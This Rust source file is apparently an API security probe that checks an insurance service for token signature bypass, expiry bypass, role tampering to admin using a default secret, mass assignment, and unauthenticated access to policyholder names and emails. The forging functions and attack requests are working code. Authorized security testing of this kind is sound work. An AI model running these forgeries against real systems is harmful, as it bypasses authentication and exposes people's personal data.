// ABOUTME: Probe presenting forged, expired and re-signed tokens and fetching PII without any token
// ABOUTME: Covers signature bypass, expiry bypass, role tampering, mass assignment and object-level access
//
// SPDX-License-Identifier: MIT OR Apache-2.0
// Copyright (c) 2025 Pierre Fitness Intelligence

//! Token handling probe
//!
//! Tokens are built three ways:
//!
//! - payload swapped, original signature kept (invalid signature)
//! - re-signed with the configured secret but `exp` an hour in the past
//! - re-signed with the configured secret and `role` changed to `admin`
//!
//! The last two only work because the server secret is the published default.

use anyhow::{bail, Context, Result};
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use chrono::{Duration, Utc};
use insurance_core::models::Claims;
use reqwest::{Method, StatusCode};
use serde_json::json;

use super::{ProbeClient, ProbeReport, ProbeResponse, Verdict};

/// Policy ids requested without a token
pub const POLICY_IDS: &[&str] = &["auto-1234", "home-5678", "life-9012"];

/// Replace the payload segment of `token` while keeping its header and signature
///
/// # Errors
///
/// Returns an error if `token` does not have three segments or the claims
/// cannot be serialized
pub fn swap_payload(token: &str, claims: &Claims) -> Result<String> {
    let mut segments = token.split('.');
    let (Some(header), Some(_), Some(signature)) =
        (segments.next(), segments.next(), segments.next())
    else {
        bail!("token does not have three segments");
    };
    let payload = serde_json::to_vec(claims).context("Failed to serialize claims")?;
    Ok(format!(
        "{header}.{}.{signature}",
        URL_SAFE_NO_PAD.encode(payload)
    ))
}

fn accepted_verdict(response: &ProbeResponse) -> Verdict {
    if response.is_success() {
        Verdict::Vulnerable
    } else if matches!(
        response.status,
        StatusCode::UNAUTHORIZED | StatusCode::FORBIDDEN
    ) {
        Verdict::Secure
    } else {
        Verdict::Inconclusive
    }
}

/// Run the token and exposure checks
///
/// # Errors
///
/// Returns an error if the server cannot be reached, the user1 login fails,
/// or a token cannot be forged
pub async fn run(client: &ProbeClient) -> Result<ProbeReport> {
    let mut report = ProbeReport::new(
        "Token tampering and unauthenticated access",
        "API2:2023 Broken Authentication / API1:2023 Broken Object Level Authorization",
    );

    let token = client.login("user1", "userpass").await?;
    let now = Utc::now();
    let valid_window = |username: &str, role: &str| Claims {
        username: username.to_owned(),
        role: role.to_owned(),
        iat: now.timestamp(),
        exp: (now + Duration::minutes(15)).timestamp(),
    };

    // Signature bypass
    let forged = swap_payload(&token, &valid_window("admin1", "admin"))?;
    let response = client.get("/api/customers/me", Some(&forged)).await?;
    report.push(
        "GET /api/customers/me with payload swapped to admin1 (bad signature)",
        accepted_verdict(&response),
        if response.is_success() {
            format!(
                "profile served for {} with role {}",
                response.str_field("username"),
                response.str_field("role")
            )
        } else {
            response.describe()
        },
    );

    // Expiry bypass, with a strict route as the control
    let expired = client.forge(&Claims {
        username: "user1".to_owned(),
        role: "user".to_owned(),
        iat: (now - Duration::hours(2)).timestamp(),
        exp: (now - Duration::hours(1)).timestamp(),
    })?;
    let response = client.get("/api/accounts/overview", Some(&expired)).await?;
    report.push(
        "GET /api/accounts/overview with a token expired an hour ago",
        accepted_verdict(&response),
        if response.is_success() {
            format!("account type {}", response.str_field("accountType"))
        } else {
            response.describe()
        },
    );
    let response = client.get("/api/auth/profile", Some(&expired)).await?;
    report.push(
        "GET /api/auth/profile with the same expired token",
        accepted_verdict(&response),
        response.describe(),
    );

    // Role tampering with the known secret
    let elevated = client.forge(&valid_window("user1", "admin"))?;
    let response = client
        .send(
            Method::PUT,
            "/api/admin/settings",
            Some(&elevated),
            Some(&json!({ "maintenance": true })),
        )
        .await?;
    report.push(
        "PUT /api/admin/settings as user1 re-signed with role admin",
        accepted_verdict(&response),
        response.describe(),
    );
    let response = client.get("/api/auth/users", Some(&elevated)).await?;
    report.push(
        "GET /api/auth/users as user1 re-signed with role admin",
        accepted_verdict(&response),
        if response.is_success() {
            format!("{} accounts listed", response.body["count"])
        } else {
            response.describe()
        },
    );

    // Mass assignment with an untouched user token
    let response = client
        .send(
            Method::PUT,
            "/api/admin/settings",
            Some(&token),
            Some(&json!({ "isAdmin": true })),
        )
        .await?;
    report.push(
        "PUT /api/admin/settings as user1 with {\"isAdmin\": true}",
        accepted_verdict(&response),
        response.describe(),
    );

    // Object-level access without a token
    let response = client.get("/api/policies/mine", None).await?;
    report.push(
        "GET /api/policies/mine without a token",
        accepted_verdict(&response),
        response.describe(),
    );
    for policy_id in POLICY_IDS {
        let response = client
            .get(&format!("/api/policies/{policy_id}"), None)
            .await?;
        let detail = if response.is_success() {
            let policy = &response.body["policy"];
            format!(
                "{} <{}>",
                policy["holderName"].as_str().unwrap_or_default(),
                policy["email"].as_str().unwrap_or_default()
            )
        } else {
            response.describe()
        };
        report.push(
            format!("GET /api/policies/{policy_id} without a token"),
            accepted_verdict(&response),
            detail,
        );
    }

    Ok(report)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::auth::AuthManager;

    #[test]
    fn test_swap_payload_keeps_signature() {
        let auth = AuthManager::with_default_lifetime(b"probe-test");
        let original = Claims {
            username: "user1".into(),
            role: "user".into(),
            iat: 0,
            exp: i64::MAX / 2,
        };
        let token = auth.sign_claims(&original).unwrap();
        let forged_claims = Claims {
            username: "admin1".into(),
            role: "admin".into(),
            ..original
        };
        let forged = swap_payload(&token, &forged_claims).unwrap();

        assert_eq!(forged.rsplit('.').next(), token.rsplit('.').next());
        assert!(auth.verify(&forged).is_err());
        assert_eq!(
            AuthManager::decode_unverified(&forged).unwrap().username,
            "admin1"
        );
    }

    #[test]
    fn test_swap_payload_rejects_short_tokens() {
        let claims = Claims {
            username: "x".into(),
            role: "user".into(),
            iat: 0,
            exp: 0,
        };
        assert!(swap_payload("only.two", &claims).is_err());
    }
}
